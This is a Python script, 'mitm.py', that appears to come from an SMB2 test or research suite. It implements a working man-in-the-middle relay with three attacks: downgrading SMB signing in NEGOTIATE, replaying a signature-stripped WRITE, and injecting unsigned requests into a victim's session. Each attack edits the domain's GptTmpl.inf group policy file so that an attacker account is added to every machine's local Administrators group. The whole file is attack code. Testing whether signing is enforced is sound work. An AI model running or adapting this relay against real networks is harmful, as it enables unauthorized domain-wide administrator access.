#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Mallory: a man in the middle between an SMB client and its server.

    mitm.py ATTACK LISTEN_ADDRESS SERVER_ADDRESS

She relays every connection made to LISTEN_ADDRESS:445 and knows nobody's
password and no key. All three attacks want the same: her own account in the
local Administrators group that the security policy file (GptTmpl.inf) gives to
every machine of the domain.

    switch-off    SMB 2.1. NEGOTIATE is not protected by anything: say in both
                  directions that nobody requires signing, and change what the
                  administrator writes while it passes. (smbclient signs its
                  TREE_CONNECT all the same; that passes as it is.)
    strip         The client signs and insists on signed answers, so its own
                  requests pass unchanged. Before it closes the policy file, send
                  a copy of its WRITE with the signature taken off and other
                  contents, and keep the answer from the client.
    inject        The client only looks at the share. Put requests of our own,
                  unsigned, into its session: open, read, write and close the
                  policy file.

One line on standard output for each thing she did or failed to do.
"""

import os
import queue
import re
import socket
import struct
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))

from smb2 import stream, wire

NEGOTIATE, CREATE, CLOSE, READ, WRITE = 0, 5, 6, 8, 9
QUERY_DIRECTORY = 14

FLAG_SIGNED = 0x08
SIGNING_REQUIRED = 0x02
STATUS_PENDING = 0x103
STATUS_NAMES = {
    0: "success",
    0xC0000022: "STATUS_ACCESS_DENIED",
    0xC0000203: "STATUS_USER_SESSION_DELETED",
}

ACCOUNT = "EXAMPLE\\mallory"
POLICY = ("example.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}"
          "\\MACHINE\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf")


def tell(line):
    print(line, flush=True)


def add_account(policy):
    """The policy file with our account among the local administrators.

    Returns None if `policy` is not that file. It is UTF-16 with a byte order
    mark, and S-1-5-32-544 is the local Administrators group.
    """
    try:
        text = policy.decode("utf-16")
    except UnicodeDecodeError:
        return None
    changed = re.sub(r"(?m)^(\*S-1-5-32-544__Members = [^\r\n]*)",
                     lambda line: line.group(1) + "," + ACCOUNT, text)
    return None if changed == text else changed.encode("utf-16")


class Field:
    """A number at a fixed place of a message."""

    def __init__(self, offset, layout):
        self.offset = offset
        self.layout = struct.Struct("<" + layout)

    def __get__(self, message, owner=None):
        return self.layout.unpack_from(message.data, self.offset)[0]

    def __set__(self, message, value):
        self.layout.pack_into(message.data, self.offset, value)


class Message:
    """One SMB2 message, header and body, to be changed in place."""

    HEADER = 64

    status = Field(8, "I")
    command = Field(12, "H")
    credits = Field(14, "H")
    flags = Field(16, "I")
    next_command = Field(20, "I")
    message_id = Field(24, "Q")
    tree_id = Field(36, "I")
    session_id = Field(40, "Q")

    # SecurityMode lies elsewhere in the request (4) than in the answer (2).
    negotiate_request_mode = Field(HEADER + 4, "H")
    negotiate_response_mode = Field(HEADER + 2, "H")
    write_length = Field(HEADER + 4, "I")
    write_count = Field(HEADER + 4, "I")

    def __init__(self, data):
        self.data = bytearray(data)

    @classmethod
    def request(cls, command, body):
        message = cls(struct.pack("<4sHH56x", b"\xfeSMB", cls.HEADER, 1) + body)
        message.command = command
        message.credits = 1
        return message

    def take_signature_off(self):
        self.flags &= ~FLAG_SIGNED
        self.data[48:64] = bytes(16)

    def part(self, offset, length):
        return bytes(self.data[offset:offset + length])

    @property
    def file_id(self):
        """FileId of a CLOSE or WRITE request or of an answer to CREATE."""
        return self.part({CLOSE: 72, WRITE: 80, CREATE: 128}[self.command], 16)

    @property
    def payload(self):
        """What a WRITE request, or an answer to READ, carries."""
        if self.command == WRITE:
            offset, = struct.unpack_from("<H", self.data, self.HEADER + 2)
        else:
            offset = self.data[self.HEADER + 2]
        length, = struct.unpack_from("<I", self.data, self.HEADER + 4)
        return self.part(offset, length)

    def replace_write_payload(self, payload):
        offset, = struct.unpack_from("<H", self.data, self.HEADER + 2)
        self.data[offset:] = payload
        self.write_length = len(payload)


def split(frame):
    """The messages of a frame: one, or the elements of a compound."""
    messages = []
    while True:
        message = Message(frame)
        length = message.next_command
        if not length:
            return messages + [message]
        message.data = message.data[:length]
        messages.append(message)
        frame = frame[length:]


def join(messages):
    for message in messages[:-1]:
        message.data += bytes(-len(message.data) % 8)
        message.next_command = len(message.data)
    return b"".join(bytes(message.data) for message in messages)


def frames(sock):
    """What every frame that arrives holds, until the peer hangs up."""
    try:
        while True:
            yield stream.receive_message(sock)
    except (EOFError, ConnectionError):
        pass


def send(sock, frame):
    sock.sendall(wire.frame(frame))


def hang_up(sock):
    try:
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass


class Relay:
    """A connection of the victim's, passed on as it is.

    An attack overrides on_request() and on_response(), which may change the
    message. Only the thread that runs on_request() writes to the server.
    """

    def __init__(self, client, server):
        self.client = client
        self.server = server
        self.window = 1         # MessageIds the server has granted so far
        self.mine = set()       # those that we have used for ourselves
        self.answers = queue.Queue()

    def on_request(self, message):
        pass

    def on_response(self, message):
        pass

    def run(self):
        upstream = threading.Thread(target=self.relay_requests, daemon=True)
        upstream.start()
        self.relay_responses()

    def relay_requests(self):
        try:
            for frame in frames(self.client):
                if frame.startswith(b"\xfeSMB"):
                    messages = split(frame)
                    for message in messages:
                        self.on_request(message)
                    frame = join(messages)
                send(self.server, frame)
        except OSError:
            pass
        hang_up(self.server)

    def relay_responses(self):
        try:
            for frame in frames(self.server):
                if frame.startswith(b"\xfeSMB"):
                    frame = self.filter_response(split(frame))
                if frame:
                    send(self.client, frame)
        except OSError:
            pass
        hang_up(self.client)

    def filter_response(self, messages):
        for message in messages:
            self.window += message.credits
        if messages[0].message_id in self.mine:
            self.answers.put(messages[0])
            return None
        for message in messages:
            self.on_response(message)
        return join(messages)

    def fresh_message_id(self):
        """A MessageId that the server accepts and the client will not reach.

        The server takes each id once, and only up to what it has granted. The
        client counts up from the bottom, so ours come from the top.
        """
        message_id = self.window - 1
        while message_id in self.mine:
            message_id -= 1
        self.mine.add(message_id)
        return message_id

    def ask(self, message):
        """Send a request of our own; return its answer, None if there is none."""
        message.message_id = self.fresh_message_id()
        message.take_signature_off()
        send(self.server, message.data)
        try:
            while True:
                answer = self.answers.get(timeout=30)
                if answer.status != STATUS_PENDING:
                    return answer
        except queue.Empty:
            return None


class SwitchOff(Relay):
    """Nobody requires signing, and nobody will know what was written."""

    rewritten_by = 0

    def on_request(self, message):
        if message.command == NEGOTIATE:
            message.negotiate_request_mode &= ~SIGNING_REQUIRED
        elif message.command == WRITE:
            self.rewrite(message)

    def rewrite(self, message):
        policy = message.payload
        changed = add_account(policy)
        if changed:
            message.replace_write_payload(changed)
            self.rewritten_by = len(changed) - len(policy)
            tell("changed the administrator's WRITE on its way")

    def on_response(self, message):
        if message.command == NEGOTIATE:
            message.negotiate_response_mode &= ~SIGNING_REQUIRED
            tell("cleared SIGNING_REQUIRED in the NEGOTIATE response")
        elif message.command == WRITE and not message.status:
            # The client must not see that more was written than it sent. It
            # signed nothing, so it takes an answer without a signature.
            message.write_count -= self.rewritten_by
            message.take_signature_off()


class Strip(Relay):
    """A second, unsigned WRITE behind the administrator's signed one."""

    write = None

    def on_request(self, message):
        if message.command == WRITE and add_account(message.payload):
            self.write = Message(message.data)
        elif message.command == CLOSE and self.write:
            if message.file_id == self.write.file_id:
                self.overwrite()

    def overwrite(self):
        forged, self.write = self.write, None
        forged.next_command = 0
        forged.replace_write_payload(add_account(forged.payload))
        report("unsigned copy of his WRITE", self.ask(forged))


class Inject(Relay):
    """Requests of our own in the session of somebody who only looks."""

    done = False
    session_id = tree_id = 0

    def on_request(self, message):
        if message.command == QUERY_DIRECTORY and not self.done:
            self.done = True
            self.session_id = message.session_id
            self.tree_id = message.tree_id
            self.change_policy()

    def request(self, command, body):
        message = Message.request(command, body)
        message.session_id = self.session_id
        message.tree_id = self.tree_id
        return self.ask(message)

    def change_policy(self):
        answer = self.request(CREATE, create_body(POLICY))
        if not report("unsigned CREATE of the policy file", answer):
            return
        file_id = answer.file_id
        answer = self.request(READ, read_body(file_id))
        if report("unsigned READ", answer):
            policy = add_account(answer.payload)
            answer = self.request(WRITE, write_body(file_id, policy))
            report("unsigned WRITE", answer)
        self.request(CLOSE, struct.pack("<HHI", 24, 0, 0) + file_id)


def create_body(name):
    """Open an existing file to read and write it, shared with everybody."""
    name = name.encode("utf-16-le")
    return struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x0012019F, 0x80,
                       7, 1, 0x40, 120, len(name), 0, 0) + name


def read_body(file_id):
    return struct.pack("<HBBIQ16sIIIHHx", 49, 80, 0, 65536, 0, file_id,
                       0, 0, 0, 0, 0)


def write_body(file_id, data):
    return struct.pack("<HHIQ16sIIHHI", 49, 112, len(data), 0, file_id,
                       0, 0, 0, 0, 0) + data


def report(what, answer):
    """Tell how the server took it; True if it did what was asked."""
    if answer is None:
        tell(what + ": no answer")
        return False
    name = STATUS_NAMES.get(answer.status, f"status 0x{answer.status:08X}")
    tell(f"{what}: {name}")
    return answer.status == 0


ATTACKS = {"switch-off": SwitchOff, "strip": Strip, "inject": Inject}


def main():
    attack, listen_address, server_address = sys.argv[1:]
    listener = socket.create_server((listen_address, 445))
    tell("listening")
    while True:
        client, _ = listener.accept()
        server = socket.create_connection((server_address, 445),
                                          source_address=(listen_address, 0))
        relay = ATTACKS[attack](client, server)
        threading.Thread(target=relay.run, daemon=True).start()


if __name__ == "__main__":
    main()
